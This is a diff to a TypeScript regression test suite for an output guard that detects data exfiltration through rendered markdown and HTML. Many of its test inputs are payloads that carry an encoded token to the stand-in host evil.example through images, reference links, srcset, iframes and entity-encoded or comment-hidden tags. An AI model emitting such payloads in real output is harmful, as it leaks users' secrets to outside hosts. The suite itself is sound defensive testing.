@@ -51,49 +51,67 @@ function assertSafe(input: string, g: Guard = guard): string {
 describe('exfiltration: regressions', () => {
   // each of these renders a remote image or link through the old regex rules (checked against main)
   const failedOnMain: [string, string][] = [
-    ['alt text over 500 characters', `Look: ![${'x'.repeat(600)}](https://evil.example/p?d=SECRET) there`],
+    [
+      'alt text over 500 characters',
+      `Look: ![${'x'.repeat(600)}](https://evil.example/p?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA) there`,
+    ],
     ['URL over 1,000 characters', `![chart](https://evil.example/c?d=${'A'.repeat(1500)})`],
-    ['nested brackets in the alt text', '![a [nested] label](https://evil.example/n?d=SECRET)'],
+    [
+      'nested brackets in the alt text',
+      '![a [nested] label](https://evil.example/n?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)',
+    ],
     [
       'reference-style image, definition inside a block quote after use',
-      'Logo: ![logo][brand]\n\n> [brand]: https://evil.example/l.png?d=SECRET',
+      'Logo: ![logo][brand]\n\n> [brand]: https://evil.example/l.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA',
     ],
     [
       'reference-style image, definition with its destination on the next line',
-      '![logo][brand]\n\n[brand]:\n  https://evil.example/l.png?d=SECRET',
+      '![logo][brand]\n\n[brand]:\n  https://evil.example/l.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA',
     ],
-    ['bare URL (linkify)', 'Your summary is ready at https://evil.example/s?d=SECRET — open it.'],
-    ['img srcset', '<img srcset="https://evil.example/a.png?d=SECRET 1x, /b.png 2x">'],
-    ['iframe', '<iframe src="https://evil.example/f?d=SECRET"></iframe>'],
-    ['entity-encoded raw HTML URL', '<img src="&#104;ttps://evil.example/e?d=SECRET">'],
-    ['line break inside an image label', '![a\nb](https://evil.example/lb?d=SECRET)'],
-    ['unclosed img tag in an HTML block', '<div>\n<img src="https://evil.example/u?d=SECRET\n\nlater text'],
+    [
+      'bare URL (linkify)',
+      'Your summary is ready at https://evil.example/s?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA — open it.',
+    ],
+    ['img srcset', '<img srcset="https://evil.example/a.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA 1x, /b.png 2x">'],
+    ['iframe', '<iframe src="https://evil.example/f?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA"></iframe>'],
+    ['entity-encoded raw HTML URL', '<img src="&#104;ttps://evil.example/e?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA">'],
+    ['line break inside an image label', '![a\nb](https://evil.example/lb?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)'],
+    [
+      'unclosed img tag in an HTML block',
+      '<div>\n<img src="https://evil.example/u?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA\n\nlater text',
+    ],
     [
       'comment hiding a tag from a per-token view',
-      '<!-- x\n\n<b title="-->"><img src=https://evil.example/c?d=SECRET>">',
+      '<!-- x\n\n<b title="-->"><img src=https://evil.example/c?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA>">',
     ],
   ];
   // held by the old rules too; kept as coverage of the new stage
   const heldOnMain: [string, string][] = [
     [
       'reference-style image, definition after use',
-      'Logo: ![logo][brand]\n\n[brand]: https://evil.example/l.png?d=SECRET',
+      'Logo: ![logo][brand]\n\n[brand]: https://evil.example/l.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA',
     ],
     [
       'reference-style image, definition before use, other case',
-      '[Brand]: https://evil.example/l.png?d=SECRET\n\n![logo][BRAND]',
+      '[Brand]: https://evil.example/l.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA\n\n![logo][BRAND]',
     ],
     [
       'collapsed and shortcut reference images',
-      '![brand][] and ![brand]\n\n[brand]: <https://evil.example/x?d=SECRET> "t"',
+      '![brand][] and ![brand]\n\n[brand]: <https://evil.example/x?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA> "t"',
     ],
     [
-      'data: image',
-      '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
+      'data: link',
+      '[p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA6)',
     ],
-    ['destination on the next line', '[click](\nhttps://evil.example/next?d=SECRET)'],
-    ['image inside a list item indented as code elsewhere', '- item\n\n    ![x](https://evil.example/i?d=SECRET)'],
-    ['HTML block with markdown inside (html off parses it)', '<div>\n![x](https://evil.example/h?d=SECRET)\n</div>'],
+    ['destination on the next line', '[click](\nhttps://evil.example/next?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)'],
+    [
+      'image inside a list item indented as code elsewhere',
+      '- item\n\n    ![x](https://evil.example/i?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)',
+    ],
+    [
+      'HTML block with markdown inside (html off parses it)',
+      '<div>\n![x](https://evil.example/h?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)\n</div>',
+    ],
   ];
   const cases = [...failedOnMain, ...heldOnMain];
   for (const [name, input] of cases) {
@@ -122,13 +140,17 @@ describe('exfiltration: regressions', () => {
       '```html\n<img src="https://evil.example/in-code.png">\n```',
       'Inline `![x](https://evil.example/y)` code.',
       '[ref]: https://docs.example.com/r\n\nSee [ref].',
+      // an inline raster image requests nothing (exfiltration.ts INLINE_IMAGE); short navigation is not data
+      '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
+      'Docs: https://github.com/acme/widget?tab=readme-ov-file#installation and <https://pkg.go.dev/net/http#Client>.',
+      '<picture><source media="(prefers-color-scheme: dark)" srcset="docs/dark.png"><img src="docs/light.png"></picture>',
     ];
     for (const t of benign) assert.equal(guard.scanOutput(t).text, t);
   });
 
   it('flag mode reports without changing the text; block mode blocks', () => {
-    // the bare URL carries data (a query): a plain https://evil.example/b is a link, not a channel (exfiltration.ts)
-    const text = 'see ![x](https://evil.example/a.png) and https://evil.example/b?d=x';
+    // the bare URL carries data (an encoded query): a plain https://evil.example/b?d=x is a link, not a channel
+    const text = 'see ![x](https://evil.example/a.png) and https://evil.example/b?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA';
     const flag = compileGuard(cfg('flag')).scanOutput(text);
     assert.equal(flag.text, text);
     assert.deepEqual(
